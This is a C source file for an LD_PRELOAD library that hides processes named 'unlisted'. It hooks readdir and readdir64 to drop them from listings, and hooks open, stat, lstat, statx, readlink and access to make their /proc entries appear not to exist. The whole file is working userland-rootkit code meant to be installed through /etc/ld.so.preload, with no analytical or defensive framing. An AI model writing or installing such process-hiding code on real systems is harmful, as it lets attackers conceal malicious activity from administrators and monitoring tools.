/* A library that hides processes named "unlisted" from the program that it is forced into.
 *
 * It leaves them out of readdir, and lets every call that names something below /proc/PID fail, as
 * those do that are put into /etc/ld.so.preload.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <dlfcn.h>
#include <errno.h>
#include <fcntl.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

static int is_hidden(const char *number)
{
    char path[64], name[32] = "";
    char *end;
    long pid = strtol(number, &end, 10);
    if (end == number || (*end && *end != '/'))
        return 0;
    snprintf(path, sizeof path, "/proc/%ld/comm", pid);
    int file = syscall(SYS_openat, AT_FDCWD, path, O_RDONLY);
    if (file < 0)
        return 0;
    syscall(SYS_read, file, name, sizeof name - 1);
    syscall(SYS_close, file);
    return !strcmp(name, "unlisted\n");
}

static int is_below(const char *path)
{
    return path && !strncmp(path, "/proc/", 6) && is_hidden(path + 6);
}

#define REAL(type, name, ...) type (*real)(__VA_ARGS__) = dlsym(RTLD_NEXT, name)
#define REFUSE(path)                                                                               \
    if (is_below(path)) {                                                                          \
        errno = ENOENT;                                                                            \
        return -1;                                                                                 \
    }

struct dirent *readdir(DIR *folder)
{
    REAL(struct dirent *, "readdir", DIR *);
    struct dirent *found;
    do
        found = real(folder);
    while (found && is_hidden(found->d_name));
    return found;
}

struct dirent64 *readdir64(DIR *folder)
{
    REAL(struct dirent64 *, "readdir64", DIR *);
    struct dirent64 *found;
    do
        found = real(folder);
    while (found && is_hidden(found->d_name));
    return found;
}

static mode_t mode_of(int flags, va_list more)
{
    return flags & (O_CREAT | __O_TMPFILE) ? va_arg(more, mode_t) : 0;
}

#define OPEN(name)                                                                                 \
    int name(const char *path, int flags, ...)                                                     \
    {                                                                                              \
        REAL(int, #name, const char *, int, ...);                                                  \
        REFUSE(path)                                                                               \
        va_list more;                                                                              \
        va_start(more, flags);                                                                     \
        mode_t mode = mode_of(flags, more);                                                        \
        va_end(more);                                                                              \
        return real(path, flags, mode);                                                            \
    }
OPEN(open)
OPEN(open64)

#define STAT(name, type)                                                                           \
    int name(const char *path, struct type *found)                                                 \
    {                                                                                              \
        REAL(int, #name, const char *, struct type *);                                             \
        REFUSE(path)                                                                               \
        return real(path, found);                                                                  \
    }
STAT(stat, stat)
STAT(stat64, stat64)
STAT(lstat, stat)
STAT(lstat64, stat64)

int statx(int folder, const char *path, int flags, unsigned mask, struct statx *found)
{
    REAL(int, "statx", int, const char *, int, unsigned, struct statx *);
    REFUSE(path)
    return real(folder, path, flags, mask, found);
}

ssize_t readlink(const char *path, char *to, size_t size)
{
    REAL(ssize_t, "readlink", const char *, char *, size_t);
    REFUSE(path)
    return real(path, to, size);
}

int access(const char *path, int mode)
{
    REAL(int, "access", const char *, int);
    REFUSE(path)
    return real(path, mode);
}
